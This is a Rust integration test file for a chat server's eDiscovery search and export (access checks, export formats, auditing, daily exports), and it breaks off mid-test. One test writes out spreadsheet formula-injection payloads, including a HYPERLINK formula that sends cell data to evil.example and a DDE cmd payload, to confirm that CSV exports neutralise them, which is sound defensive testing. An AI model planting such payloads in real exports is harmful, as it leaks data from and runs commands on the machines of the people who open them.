//! eDiscovery: a compliance officer, in none of the workspace's channels, finds content by
//! custodian, channel, date and keyword (deleted content a hold keeps included), exports it in
//! every format, each read back by an independent parser (Python's `csv`, `zipfile`,
//! `xml.etree` and `email`), and the daily export writes each day once. Members without
//! `ediscovery.read` are refused; every search and export is audited without content.

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, NaiveDate, TimeDelta, Utc};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::chat::{channel, say};
use crate::docs::create_doc;
use crate::harness::{
    both_backends, spawn_app, spawn_app_with, Backend, Session, TestApp, PASSWORD, WAIT,
};

const SEARCH: &str = "/api/v1/compliance/ediscovery/search";
const EXPORTS: &str = "/api/v1/compliance/ediscovery/exports";

/// Text that needs every kind of escaping: Korean, an emoji, quotes, commas, a line break,
/// markup.
const TRICKY: &str = "회의 😀, \"quoted\", comma, <tag> & more\nsecond line";

fn id(v: &Value) -> String {
    v["id"].as_str().unwrap().to_owned()
}

/// A compliance officer (system role), signed in.
async fn officer(app: &TestApp, admin: &Session) -> Session {
    app.create_user(admin, "officer@example.org", "Officer")
        .await;
    let officer = app.login("officer@example.org", PASSWORD).await;
    app.put(
        &format!("/api/v1/users/{}/system-role", officer.user_id),
        &admin.access,
        json!({"role": "compliance_officer"}),
    )
    .await
    .expect(200);
    officer
}

async fn join(app: &TestApp, who: &Session, channel: &str) {
    app.post(
        &format!("/api/v1/channels/{channel}/join"),
        Some(&who.access),
        json!({}),
    )
    .await
    .expect(200);
}

async fn search(app: &TestApp, who: &Session, body: Value) -> Value {
    app.post(SEARCH, Some(&who.access), body)
        .await
        .expect(200)
        .clone()
}

fn result_ids(page: &Value) -> Vec<String> {
    page["results"].as_array().unwrap().iter().map(id).collect()
}

/// Runs a Python script over `bytes` (written to a file passed as its argument) and parses
/// what it prints as JSON.
fn python(script: &str, bytes: &[u8]) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("export");
    std::fs::write(&path, bytes).unwrap();
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(&path)
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "python could not read the export: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A ZIP's entries, read and CRC-checked by Python's `zipfile`.
fn unzip(bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let script = "import zipfile, sys, json, base64\n\
                  z = zipfile.ZipFile(sys.argv[1])\n\
                  assert z.testzip() is None\n\
                  print(json.dumps({n: base64.b64encode(z.read(n)).decode() for n in z.namelist()}))\n";
    use base64::Engine;
    python(script, bytes)
        .as_object()
        .unwrap()
        .iter()
        .map(|(n, b)| {
            (
                n.clone(),
                base64::engine::general_purpose::STANDARD
                    .decode(b.as_str().unwrap())
                    .unwrap(),
            )
        })
        .collect()
}

async fn export(
    app: &TestApp,
    who: &Session,
    body: Value,
) -> (reqwest::header::HeaderMap, Vec<u8>) {
    let resp = app
        .client
        .post(format!("{}{EXPORTS}", app.base))
        .bearer_auth(&who.access)
        .json(&body)
        .send()
        .await
        .unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let bytes = resp.bytes().await.unwrap().to_vec();
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    (headers, bytes)
}

async fn searching_narrows_by_custodian_channel_date_and_keyword(backend: Backend) {
    let app = spawn_app(backend).await;
    let t = app.team().await;
    let officer = officer(&app, &t.admin).await;
    let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
    join(&app, &t.bo, &general).await;
    let plans = channel(&app, &t.ann, &t.ws, "plans", "private").await;
    let alpha = say(&app, &t.ann, &general, "alpha quarterly numbers").await;
    let beta = say(&app, &t.bo, &general, "beta lunch order").await;
    let gamma = say(&app, &t.ann, &plans, "gamma acquisition plan").await;
    // A hold on Ann's content keeps the message she then deletes.
    app.post(
        &format!("/api/v1/workspaces/{}/legal-holds", t.ws),
        Some(&officer.access),
        json!({"name": "Ann's matter", "custodians": [t.ann.user_id]}),
    )
    .await
    .expect(201);
    app.delete(&format!("/api/v1/messages/{}", id(&alpha)), &t.ann.access)
        .await
        .expect(204);

    let ws = t.ws.as_str();
    let all = search(
        &app,
        &officer,
        json!({"workspace": ws, "kinds": ["messages"]}),
    )
    .await;
    assert_eq!(all["total"], 3, "{all}");
    assert_eq!(result_ids(&all), vec![id(&alpha), id(&beta), id(&gamma)]);
    let held = &all["results"][0];
    assert_eq!(held["deleted"], true, "{held}");
    assert_eq!(held["excerpt"], "alpha quarterly numbers", "{held}");
    assert_eq!(held["author_name"], "Ann");
    assert_eq!(all["results"][2]["channel_name"], "plans");

    let by = |body: Value| {
        let mut b = json!({"workspace": ws, "kinds": ["messages"]});
        b.as_object_mut()
            .unwrap()
            .extend(body.as_object().unwrap().clone());
        b
    };
    let bo_only = search(&app, &officer, by(json!({"custodians": [t.bo.user_id]}))).await;
    assert_eq!(result_ids(&bo_only), vec![id(&beta)]);
    let in_plans = search(&app, &officer, by(json!({"channels": [plans]}))).await;
    assert_eq!(result_ids(&in_plans), vec![id(&gamma)]);
    let today = Utc::now().date_naive();
    let tomorrow = (today + TimeDelta::days(1)).to_string();
    let yesterday = (today - TimeDelta::days(1)).to_string();
    let later = search(&app, &officer, by(json!({"from": tomorrow}))).await;
    assert_eq!(later["total"], 0, "{later}");
    let earlier = search(&app, &officer, by(json!({"to": yesterday}))).await;
    assert_eq!(earlier["total"], 0, "{earlier}");
    let on_the_day = search(
        &app,
        &officer,
        by(json!({"from": today.to_string(), "to": today.to_string()})),
    )
    .await;
    assert_eq!(on_the_day["total"], 3, "{on_the_day}");

    // Keywords go through the index, over channels the officer is not in; the deleted
    // message the hold keeps is matched too.
    let found = search(&app, &officer, by(json!({"query": "acquisition"}))).await;
    assert_eq!(result_ids(&found), vec![id(&gamma)], "{found}");
    let kept = search(&app, &officer, by(json!({"query": "quarterly"}))).await;
    assert_eq!(result_ids(&kept), vec![id(&alpha)], "{kept}");
    assert_eq!(kept["results"][0]["deleted"], true);
    let narrowed = search(
        &app,
        &officer,
        by(json!({"query": "lunch", "custodians": [t.ann.user_id]})),
    )
    .await;
    assert_eq!(narrowed["total"], 0, "{narrowed}");

    // Pages follow one another without repeats.
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut body = by(json!({"limit": 1}));
        if let Some(c) = &cursor {
            body["cursor"] = json!(c);
        }
        let page = search(&app, &officer, body).await;
        seen.extend(result_ids(&page));
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => break,
        }
        assert!(seen.len() <= 3, "{seen:?}");
    }
    assert_eq!(seen, vec![id(&alpha), id(&beta), id(&gamma)]);

    // Members, the workspace's own people included, may not.
    for who in [&t.cy, &t.ann] {
        app.post(SEARCH, Some(&who.access), json!({"workspace": ws}))
            .await
            .expect_error(403, "forbidden");
        app.post(
            EXPORTS,
            Some(&who.access),
            json!({"workspace": ws, "format": "jsonl"}),
        )
        .await
        .expect_error(403, "forbidden");
    }

    // Mistakes are named.
    for (body, code) in [
        (
            json!({"workspace": ws, "from": "last tuesday"}),
            "invalid_criteria",
        ),
        (
            json!({"workspace": ws, "from": "2024-02-30"}),
            "invalid_criteria",
        ),
        (
            json!({"workspace": ws, "from": "2024-05-02", "to": "2024-05-01"}),
            "invalid_criteria",
        ),
        (
            json!({"workspace": ws, "kinds": ["emails"]}),
            "invalid_criteria",
        ),
        (json!({"workspace": ws, "limit": 0}), "invalid_criteria"),
        (
            json!({"workspace": ws, "cursor": "nonsense"}),
            "invalid_criteria",
        ),
        (
            json!({"workspace": ws, "channels": [uuid::Uuid::now_v7()]}),
            "invalid_criteria",
        ),
        (
            json!({"workspace": ws, "query": "in:#general plan"}),
            "invalid_criteria",
        ),
    ] {
        app.post(SEARCH, Some(&officer.access), body.clone())
            .await
            .expect_error(422, code);
    }
    app.post(
        EXPORTS,
        Some(&officer.access),
        json!({"workspace": ws, "format": "pdf"}),
    )
    .await
    .expect_error(422, "unknown_format");
    app.post(
        SEARCH,
        Some(&officer.access),
        json!({"workspace": uuid::Uuid::now_v7()}),
    )
    .await
    .expect_error(404, "not_found");

    // Every search is audited with its criteria and counts, never content or keywords.
    let events = app.audit_events(&officer.access).await;
    let searched: Vec<&Value> = events
        .iter()
        .filter(|e| e["action"] == "ediscovery.searched")
        .collect();
    assert!(searched.len() >= 10, "{}", searched.len());
    let first = searched[0];
    assert_eq!(first["actor_id"], officer.user_id.as_str());
    assert_eq!(first["details"]["results"], 3, "{first}");
    assert_eq!(first["details"]["criteria"]["workspace_id"], ws);
    let text = serde_json::to_string(&searched).unwrap();
    for needle in ["alpha", "quarterly", "acquisition", "lunch"] {
        assert!(!text.contains(needle), "{needle} in the audit log: {text}");
    }
    assert!(events
        .iter()
        .any(|e| e["outcome"] == "denied" && e["actor_id"] == t.cy.user_id.as_str()));
}

async fn exports_read_back_in_every_format(backend: Backend) {
    let app = spawn_app(backend).await;
    let t = app.team().await;
    let officer = officer(&app, &t.admin).await;
    app.create_user(&t.admin, "kim@example.org", "김민지 😀")
        .await;
    let kim = app.login("kim@example.org", PASSWORD).await;
    app.add_member(&t.admin, &t.ws, &kim, "member").await;
    let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
    join(&app, &kim, &general).await;
    let tricky = say(&app, &t.ann, &general, TRICKY).await;
    let hello = say(&app, &kim, &general, "안녕하세요 from Kim").await;
    let file_bytes = b"file bytes, with \"quotes\"\n".to_vec();
    let up = app
        .upload(&t.ann, &general, "report Q1.txt", &file_bytes)
        .await
        .expect(201)
        .clone();
    let file = up["id"]
        .as_str()
        .or(up["file"]["id"].as_str())
        .unwrap()
        .to_owned();
    let doc = create_doc(&app, &t.ann, &t.ws, "Plan").await;
    let version = app
        .post(
            &format!("/api/v1/documents/{doc}/versions"),
            Some(&t.ann.access),
            json!({"name": "Draft 1"}),
        )
        .await
        .expect(201)
        .clone();
    let ws = t.ws.as_str();
    let body = |format: &str| json!({"workspace": ws, "format": format});

    // JSON lines: each line one item.
    let (headers, bytes) = export(&app, &officer, body("jsonl")).await;
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"ediscovery-")
            && disposition.ends_with(".jsonl\""),
        "{disposition}"
    );
    let lines: Vec<Value> = String::from_utf8(bytes)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let kinds: BTreeSet<&str> = lines.iter().map(|l| l["kind"].as_str().unwrap()).collect();
    assert_eq!(
        kinds,
        BTreeSet::from(["message", "file", "document_version"])
    );
    // Sharing the file posted a message of its own.
    let message_count = lines.iter().filter(|l| l["kind"] == "message").count();
    assert!(message_count >= 2, "{lines:?}");
    let line = lines.iter().find(|l| l["id"] == tricky["id"]).unwrap();
    assert_eq!(line["text"], TRICKY);
    assert_eq!(line["author_email"], "ann@example.org");
    let v = lines
        .iter()
        .find(|l| l["kind"] == "document_version")
        .unwrap();
    assert_eq!(v["id"], version["id"], "{v}");
    assert_eq!(v["name"], "Draft 1");

    // CSV, as Python's csv module reads it.
    let (headers, bytes) = export(&app, &officer, body("csv")).await;
    assert!(headers["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let rows = python(
        "import csv, sys, json\n\
         print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))))\n",
        &bytes,
    );
    let row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == tricky["id"])
        .unwrap();
    assert_eq!(row["text"], TRICKY, "{row}");
    assert_eq!(row["channel_name"], "general");
    assert!(rows
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["author_name"] == "김민지 😀"));

    // ZIP: every entry's hash in the manifest.
    let (_, bytes) = export(&app, &officer, body("zip")).await;
    let entries = unzip(&bytes);
    let manifest: Value = serde_json::from_slice(&entries["manifest.json"]).unwrap();
    let listed = manifest["entries"].as_array().unwrap();
    assert_eq!(listed.len(), entries.len() - 1, "{manifest}");
    for e in listed {
        let path = e["path"].as_str().unwrap();
        let data = &entries[path];
        assert_eq!(e["sha256"], hex::encode(Sha256::digest(data)), "{path}");
        assert_eq!(e["bytes"], data.len(), "{path}");
    }
    assert_eq!(entries[&format!("files/{file}/report Q1.txt")], file_bytes);
    assert!(entries.contains_key(&format!("documents/{doc}/{}.txt", id(&version))));
    let messages = String::from_utf8(entries["messages.jsonl"].clone()).unwrap();
    assert_eq!(messages.lines().count(), message_count);
    assert!(messages.contains(&serde_json::to_string(TRICKY).unwrap()));
    assert_eq!(manifest["counts"]["messages"], message_count);

    // Actiance XML, as ElementTree parses it.
    let (_, bytes) = export(&app, &officer, body("actiance")).await;
    let dump = python(
        "import sys, json, xml.etree.ElementTree as ET\n\
         root = ET.parse(sys.argv[1]).getroot()\n\
         out = {'root': root.tag, 'conversations': []}\n\
         for c in root.findall('Conversation'):\n\
         \x20   out['conversations'].append({\n\
         \x20       'room': c.findtext('RoomID'),\n\
         \x20       'entered': [p.findtext('LoginName') for p in c.findall('ParticipantEntered')],\n\
         \x20       'left': [p.findtext('LoginName') for p in c.findall('ParticipantLeft')],\n\
         \x20       'messages': [{'id': m.findtext('MessageId'), 'login': m.findtext('LoginName'), 'content': m.findtext('Content')} for m in c.findall('Message')],\n\
         \x20       'files': [f.findtext('UserFileName') for f in c.findall('FileTransferEnded')],\n\
         \x20       'end': c.findtext('EndTimeUTC')})\n\
         print(json.dumps(out))\n",
        &bytes,
    );
    assert_eq!(dump["root"], "FileDump");
    let conversations = dump["conversations"].as_array().unwrap();
    assert_eq!(conversations.len(), 1, "{dump}");
    let c = &conversations[0];
    assert!(c["room"].as_str().unwrap().contains(&general), "{c}");
    assert_eq!(c["entered"], json!(["ann@example.org", "kim@example.org"]));
    assert_eq!(c["left"], c["entered"]);
    let said: Vec<&Value> = c["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["id"] == tricky["id"] || m["id"] == hello["id"])
        .collect();
    assert_eq!(
        said,
        vec![
            &json!({"id": tricky["id"], "login": "ann@example.org", "content": TRICKY}),
            &json!({"id": hello["id"], "login": "kim@example.org", "content": "안녕하세요 from Kim"}),
        ]
    );
    assert_eq!(c["messages"].as_array().unwrap().len(), message_count);
    assert_eq!(c["files"], json!(["report Q1.txt"]));

    // Global Relay: one message for the conversation's day, its headers 7-bit and encoded.
    let (_, bytes) = export(&app, &officer, body("globalrelay")).await;
    let emls = unzip(&bytes);
    assert_eq!(emls.len(), 1, "{:?}", emls.keys());
    let (name, eml) = emls.iter().next().unwrap();
    assert!(name.ends_with(&format!("-{general}.eml")), "{name}");
    let head_end = eml.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    assert!(
        eml[..head_end].is_ascii(),
        "{}",
        String::from_utf8_lossy(eml)
    );
    let mail = python(
        "import sys, json, email, email.policy\n\
         m = email.message_from_bytes(open(sys.argv[1], 'rb').read(), policy=email.policy.default)\n\
         print(json.dumps({'from': str(m['From']), 'to': [str(a) for a in m['To'].addresses],\n\
         \x20   'subject': str(m['Subject']), 'date': str(m['Date']), 'body': m.get_content(),\n\
         \x20   'defects': len(m.defects)}))\n",
        eml,
    );
    assert_eq!(mail["from"], "Ann <ann@example.org>", "{mail}");
    assert_eq!(
        mail["to"],
        json!(["Ann <ann@example.org>", "김민지 😀 <kim@example.org>"]),
        "{mail}"
    );
    assert!(
        mail["subject"].as_str().unwrap().contains("general"),
        "{mail}"
    );
    assert_eq!(mail["defects"], 0);
    let text = mail["body"].as_str().unwrap().replace("\r\n", "\n");
    for line in TRICKY
        .lines()
        .chain(["안녕하세요 from Kim", "report Q1.txt"])
    {
        assert!(text.contains(line), "{line} not in {text}");
    }

    // Each export is audited with its format and counts, never its content.
    let events = app.audit_events(&officer.access).await;
    let exported: Vec<&Value> = events
        .iter()
        .filter(|e| e["action"] == "ediscovery.exported")
        .collect();
    let formats: Vec<&str> = exported
        .iter()
        .map(|e| e["details"]["format"].as_str().unwrap())
        .collect();
    assert_eq!(
        formats,
        vec!["jsonl", "csv", "zip", "actiance", "globalrelay"]
    );
    assert_eq!(exported[0]["details"]["messages"], message_count);
    assert_eq!(exported[0]["details"]["files"], 1);
    assert_eq!(exported[0]["details"]["document_versions"], 1);
    let audited = serde_json::to_string(&exported).unwrap();
    assert!(
        !audited.contains("quoted") && !audited.contains("Kim"),
        "{audited}"
    );
}

/// A value bound into SQL run with the table owner's rights.
enum Arg {
    At(DateTime<Utc>),
    Id(uuid::Uuid),
}

/// Runs `sql` with `args` bound, bypassing Concord (to place content at past times).
async fn exec(app: &TestApp, sql: &str, args: &[Arg]) {
    use sqlx::Connection;
    macro_rules! run {
        ($conn:ty) => {{
            let mut c = <$conn>::connect(&app.database_url).await.unwrap();
            let mut q = sqlx::query(sql);
            for a in args {
                q = match a {
                    Arg::At(t) => q.bind(*t),
                    Arg::Id(i) => q.bind(*i),
                };
            }
            q.execute(&mut c)
                .await
                .unwrap_or_else(|e| panic!("{sql}: {e}"));
        }};
    }
    match app.backend {
        Backend::Sqlite => run!(sqlx::SqliteConnection),
        Backend::Postgres => run!(sqlx::PgConnection),
    }
}

fn uuid_of(id: &str) -> uuid::Uuid {
    uuid::Uuid::parse_str(id).unwrap()
}

/// `day` at `h:m:s` UTC.
fn at(day: NaiveDate, h: u32, m: u32, s: u32) -> DateTime<Utc> {
    day.and_hms_opt(h, m, s).unwrap().and_utc()
}

/// Files in the export directory, by name.
fn listing(directory: &std::path::Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(directory)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

async fn the_daily_export_writes_each_day_once(backend: Backend) {
    let out = tempfile::tempdir().unwrap();
    // Concord creates the directory itself, readable by its own user only.
    let directory = out.path().join("daily");
    let app = spawn_app(backend).await;
    let t = app.team().await;
    let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
    let older = say(&app, &t.ann, &general, "delta older report").await;
    let missed = say(&app, &t.ann, &general, "delta daily report").await;
    let by_hand = say(&app, &t.ann, &general, "delta by hand").await;
    let up = app
        .upload(&t.ann, &general, "late.txt", b"late upload")
        .await
        .expect(201)
        .clone();
    let file = up["id"]
        .as_str()
        .or(up["file"]["id"].as_str())
        .unwrap()
        .to_owned();

    // The content is placed on past days, computed from one reading of the clock (so the
    // test holds across midnight): the workspace was made ten days ago, one message two days
    // ago, the rest yesterday, and the file's upload started the day before yesterday just
    // before midnight but completed yesterday, so it is yesterday's content.
    let today = Utc::now().date_naive();
    let day = |n: i64| today - TimeDelta::days(n);
    exec(
        &app,
        "UPDATE messages SET created_at = $1",
        &[Arg::At(at(day(1), 10, 0, 0))],
    )
    .await;
    for (m, when) in [
        (&older, at(day(2), 9, 0, 0)),
        (&by_hand, at(day(6), 12, 0, 0)),
    ] {
        exec(
            &app,
            "UPDATE messages SET created_at = $1 WHERE id = $2",
            &[Arg::At(when), Arg::Id(uuid_of(&id(m)))],
        )
        .await;
    }
    exec(
        &app,
        "UPDATE files SET created_at = $1, completed_at = $2 WHERE id = $3",
        &[
            Arg::At(at(day(2), 23, 59, 50)),
            Arg::At(at(day(1), 0, 0, 30)),
            Arg::Id(uuid_of(&file)),
        ],
    )
    .await;
    exec(
        &app,
        "UPDATE workspaces SET created_at = $1 WHERE id = $2",
        &[Arg::At(at(day(10), 8, 0, 0)), Arg::Id(uuid_of(&t.ws))],
    )
    .await;

    // The server was down for days: once the daily export is on, its task exports every
    // day it missed within `catch_up_days`, oldest first, each once.
    let app = app
        .restart_with(|c| {
            let d = &mut c.ediscovery.daily_export;
            d.enabled = true;
            d.directory = Some(directory.clone());
            d.hour = 0;
            d.check_seconds = 1;
            d.catch_up_days = 4;
            d.format = "jsonl".into();
        })
        .await;
    let name = |d: NaiveDate| format!("ediscovery-{}-{d}.jsonl", t.ws);
    let file_of = |d: NaiveDate| directory.join(name(d));
    let deadline = std::time::Instant::now() + WAIT;
    while app
        .scalar("SELECT COUNT(*) FROM ediscovery_daily_exports")
        .await
        < 4
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the missed days were not exported: {:?}",
            std::fs::read_dir(&directory).map(|d| d.count())
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let lines = |d: NaiveDate| -> Vec<Value> {
        std::fs::read_to_string(file_of(d))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let two_days_ago = lines(day(2));
    assert_eq!(two_days_ago.len(), 1, "{two_days_ago:?}");
    assert_eq!(two_days_ago[0]["text"], "delta older report");
    let yesterday = lines(day(1));
    let texts: Vec<&str> = yesterday
        .iter()
        .filter_map(|l| l["text"].as_str())
        .collect();
    assert!(texts.contains(&"delta daily report"), "{yesterday:?}");
    assert!(
        yesterday.iter().any(|l| l["id"] == missed["id"]),
        "{yesterday:?}"
    );
    assert!(
        yesterday
            .iter()
            .any(|l| l["kind"] == "file" && l["id"] == file.as_str()),
        "the file completed yesterday is yesterday's: {yesterday:?}"
    );
    assert!(!texts.contains(&"delta by hand"), "{yesterday:?}");
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM ediscovery_daily_claims")
            .await,
        0,
        "a recorded day keeps no claim"
    );

    // Plaintext by design, so readable by Concord's user only.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&directory), 0o700);
        for n in listing(&directory) {
            assert_eq!(mode(&directory.join(&n)), 0o600, "{n}");
        }
    }
    assert!(
        listing(&directory).iter().all(|n| !n.contains("partial")),
        "{:?}",
        listing(&directory)
    );

    // The command line exports an older day on demand, once, and refuses a day that is not
    // over: it would be recorded as done with part of its content.
    let mut app = app;
    app.stop().await;
    let daily = |d: NaiveDate| {
        std::process::Command::new(env!("CARGO_BIN_EXE_concord"))
            .args(app.cli_args())
            .args(["ediscovery", "daily", "--day", &d.to_string()])
            .env("CONCORD_LOG__FILTER", "warn")
            .env("CONCORD_EDISCOVERY__DAILY_EXPORT__DIRECTORY", &directory)
            .output()
            .unwrap()
    };
    let ok = |d: NaiveDate| {
        let out = daily(d);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<Value>(&out.stdout).unwrap()
    };
    let first = ok(day(6));
    assert_eq!(first["written"].as_array().unwrap().len(), 1, "{first}");
    assert_eq!(first["written"][0]["workspace_id"], t.ws.as_str());
    assert_eq!(first["written"][0]["items"], 1);
    let line: Value =
        serde_json::from_str(std::fs::read_to_string(file_of(day(6))).unwrap().trim()).unwrap();
    assert_eq!(line["text"], "delta by hand");
    let again = ok(day(6));
    assert_eq!(again["written"], json!([]), "{again}");
    assert_eq!(again["skipped"], json!([t.ws]));
    let done = ok(day(1));
    assert_eq!(done["written"], json!([]), "{done}");
    assert_eq!(done["skipped"], json!([t.ws]));
    let before = listing(&directory);
    for not_over in [today, today + TimeDelta::days(1)] {
        let out = daily(not_over);
        assert!(!out.status.success(), "{not_over} was exported");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
        assert!(stderr.contains("is not over yet"), "{stderr}");
        assert!(out.stdout.is_empty());
    }
    assert_eq!(listing(&directory), before);
    assert!(before.contains(&name(day(6))) && before.contains(&name(day(2))));

    // Each is audited as a scheduled export by the system.
    let app = app.restart().await;
    let admin = app.login("admin@example.org", PASSWORD).await;
    let scheduled: Vec<Value> = app
        .audit_events(&admin.access)
        .await
        .into_iter()
        .filter(|e| {
            e["action"] == "ediscovery.exported"
                && e["details"]["scheduled"] == true
                && e["details"]["criteria"]["workspace_id"] == t.ws.as_str()
        })
        .collect();
    let recorded = app
        .scalar("SELECT COUNT(*) FROM ediscovery_daily_exports")
        .await;
    assert_eq!(scheduled.len() as i64, recorded, "{scheduled:?}");
    assert!(recorded >= 5);
}

/// Two runners (two nodes on one database, or the command line beside a server) claim the
/// same workspace's day at once: exactly one wins and writes it; the other may take it over
/// only once the winner's lease has lapsed, and a lapsed runner cannot record it after that.
async fn two_runners_claiming_a_day_get_it_once(backend: Backend) {
    use concord::store::ediscovery::{
        claim_daily_export, complete_daily_export, DailyClaim, DailyExportRecord,
    };
    use concord::store::{StoreError, Tx};
    let app = spawn_app(backend).await;
    let t = app.team().await;
    let ws: concord::domain::WorkspaceId = t.ws.parse().unwrap();
    let day = "2024-03-01";
    let other_node = app.open_store().await;
    async fn claim_day(
        store: &concord::store::Store,
        ws: concord::domain::WorkspaceId,
        runner: &'static str,
        now: DateTime<Utc>,
    ) -> Result<DailyClaim, StoreError> {
        store
            .write(move |tx: &mut Tx| {
                Box::pin(async move {
                    claim_daily_export(
                        &mut tx.conn(),
                        ws,
                        "2024-03-01",
                        "jsonl",
                        runner,
                        now,
                        now + TimeDelta::minutes(15),
                    )
                    .await
                })
            })
            .await
    }
    let now = Utc::now();
    let (a, b) = tokio::join!(
        claim_day(&app.store, ws, "a", now),
        claim_day(&other_node, ws, "b", now)
    );
    let (a, b) = (a.unwrap(), b.unwrap());
    assert!(
        matches!(
            (a, b),
            (DailyClaim::Claimed, DailyClaim::Held) | (DailyClaim::Held, DailyClaim::Claimed)
        ),
        "{a:?} {b:?}"
    );
    let (winner, loser) = if a == DailyClaim::Claimed {
        ("a", "b")
    } else {
        ("b", "a")
    };
    // The holder renews; the other is still refused while the lease holds.
    let later = now + TimeDelta::minutes(10);
    assert_eq!(
        claim_day(&app.store, ws, winner, later).await.unwrap(),
        DailyClaim::Claimed
    );
    assert_eq!(
        claim_day(&app.store, ws, loser, later).await.unwrap(),
        DailyClaim::Held
    );
    // The holder stops; once its lease lapses the other takes the day over, and the first
    // can no longer record it.
    let lapsed = later + TimeDelta::minutes(16);
    assert_eq!(
        claim_day(&other_node, ws, loser, lapsed).await.unwrap(),
        DailyClaim::Claimed
    );
    let record = |runner: &'static str| {
        let r = DailyExportRecord {
            workspace_id: ws,
            day: day.to_owned(),
            format: "jsonl".into(),
            file_name: "f.jsonl".into(),
            items: 0,
            bytes: 0,
            sha256: String::new(),
            written_at: Utc::now(),
        };
        app.store.write(move |tx: &mut Tx| {
            Box::pin(async move { complete_daily_export(&mut tx.conn(), &r, runner).await })
        })
    };
    assert!(!record(winner).await.unwrap());
    assert!(record(loser).await.unwrap());
    // Done: nobody claims it again, whatever the time.
    for runner in ["a", "b", "c"] {
        let found = claim_day(&other_node, ws, runner, lapsed + TimeDelta::days(1)).await;
        assert_eq!(found.unwrap(), DailyClaim::Done);
    }
    other_node.close().await;
}

/// Cells a spreadsheet would run as formulas are written as text in a CSV export; the other
/// formats keep the text as written.
async fn csv_cells_never_become_formulas(backend: Backend) {
    let app = spawn_app(backend).await;
    let t = app.team().await;
    let officer = officer(&app, &t.admin).await;
    let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
    ];
    let mut ids = Vec::new();
    for text in formulas {
        ids.push(id(&say(&app, &t.ann, &general, text).await));
    }
    let plain = id(&say(&app, &t.ann, &general, "a=1 is fine").await);
    let ws = t.ws.as_str();
    let (_, bytes) = export(
        &app,
        &officer,
        json!({"workspace": ws, "format": "jsonl", "kinds": ["messages"]}),
    )
    .await;
    let stored: BTreeMap<String, String> = String::from_utf8(bytes)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .map(|l| (id(&l), l["text"].as_str().unwrap().to_owned()))
        .collect();
    let (_, bytes) = export(
        &app,
        &officer,
        json!({"workspace": ws, "format": "csv", "kinds": ["messages"]}),
    )
    .await;
    let rows = python(
        "import csv, sys, json\n\
         print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))))\n",
        &bytes,
    );
    let cells: BTreeMap<String, String> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (id(r), r["text"].as_str().unwrap().to_owned()))
        .collect();
    for m in &ids {
        let text = &stored[m];
        assert!(
            text.starts_with(['=', '+', '-', '@', '\t']),
            "{text:?} is no formula"
        );
        assert_eq!(cells[m], format!("'{text}"), "{text:?}");
    }
    assert_eq!(cells[&plain], "a=1 is fine");
}

/// An export is complete or refused: caps on keyword matches, on the kept deleted messages
/// a keyword search reads, on items and on bytes of text all refuse it with
/// `export_too_large`, while a search says its page is `truncated`.
async fn exports_past_a_limit_are_refused_never_cut_short(backend: Backend) {
    let app = spawn_app_with(backend, |c| {
        c.ediscovery.max_keyword_matches = 3;
        c.ediscovery.max_deleted_scanned = 1;
        c.ediscovery.max_export_items = 80;
        c.ediscovery.max_export_mib = 1;
    })
    .await;
    let t = app.team().await;
    let officer = officer(&app, &t.admin).await;
    let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
    join(&app, &t.bo, &general).await;
    for i in 0..4 {
        say(&app, &t.ann, &general, &format!("omega number {i}")).await;
    }
    say(&app, &t.ann, &general, "sigma alone").await;
    let ws = t.ws.as_str();
    let refused = |body: Value| {
        let app = &app;
        let officer = &officer;
        async move {
            let r = app.post(EXPORTS, Some(&officer.access), body).await;
            r.expect_error(422, "export_too_large");
            r.body["error"]["message"].as_str().unwrap().to_owned()
        }
    };

    // Keywords matching more than a search considers.
    let page = search(&app, &officer, json!({"workspace": ws, "query": "omega"})).await;
    assert_eq!(page["truncated"], true, "{page}");
    assert_eq!(page["results"].as_array().unwrap().len(), 3, "{page}");
